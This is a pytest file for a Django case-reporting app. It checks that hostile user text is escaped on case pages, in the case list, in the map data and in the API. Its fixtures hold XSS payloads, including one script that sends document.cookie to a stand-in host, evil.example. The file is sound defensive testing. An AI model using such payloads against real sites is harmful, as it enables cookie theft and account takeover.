"""User text is shown as text everywhere: HTML pages, the map's data and the API."""

from __future__ import annotations

import html

import pytest
from django.test import Client

from minjian.accounts.models import User
from minjian.cases.models import Case
from minjian.cases.tests.factories import make_case
from minjian.places.models import Region

pytestmark = pytest.mark.django_db

RLO = "\u202e"
HOSTILE_TITLE = (
    'Pipe <script>alert(1)</script> "><img src=x onerror=alert(2)> '
    f"javascript:alert(3) {RLO}gpj.exe"
)
HOSTILE_DESCRIPTION = (
    "</div><script>document.location='https://evil.example/'+document.cookie</script>\n"
    "<a href=\"javascript:alert(4)\">click</a> ' onmouseover='alert(5)\n"
    f"{RLO}moc.elpmaxe//:sptth"
)


@pytest.fixture
def hostile_case(regions: dict[str, Region], staff: User) -> Case:
    return make_case(
        regions["340321"],
        reporter=staff,
        title=HOSTILE_TITLE,
        description=HOSTILE_DESCRIPTION,
        latitude="32.94",
        longitude="117.36",
    )


def _assert_no_markup_from_user(page: str) -> None:
    assert "<script>alert" not in page
    assert "<script>document" not in page
    assert "<img src=x" not in page
    assert 'href="javascript:' not in page
    assert "onmouseover='alert" not in page
    assert "onerror=alert(2)>" not in page


def test_the_case_page_shows_hostile_text_as_text(client: Client, hostile_case: Case) -> None:
    page = client.get(f"/cases/{hostile_case.pk}/").content.decode()

    _assert_no_markup_from_user(page)
    # The title is the whole of its heading, so a right-to-left override inside it
    # reorders nothing of the page around it.
    assert f"<h1>{html.escape(hostile_case.title)}</h1>" in page
    assert html.escape(HOSTILE_DESCRIPTION) in page


def test_the_case_list_shows_hostile_text_as_text(client: Client, hostile_case: Case) -> None:
    page = client.get("/cases/").content.decode()

    _assert_no_markup_from_user(page)
    assert f">{html.escape(hostile_case.title)}</a></h3>" in page


def test_the_map_gives_hostile_text_as_json_data_never_as_a_page(
    client: Client, hostile_case: Case
) -> None:
    page = client.get("/cases/map/").content.decode()
    _assert_no_markup_from_user(page)
    response = client.get("/cases/map/features.json", {"bbox": "-180,-90,180,90", "zoom": "2"})

    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert [case["title"] for case in response.json()["cases"]] == [hostile_case.title]


def test_the_api_returns_hostile_text_as_json_data_never_as_a_page(
    client: Client, hostile_case: Case
) -> None:
    response = client.get(f"/api/v1/cases/{hostile_case.pk}")

    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()["title"] == hostile_case.title
    assert response.json()["description"] == hostile_case.description
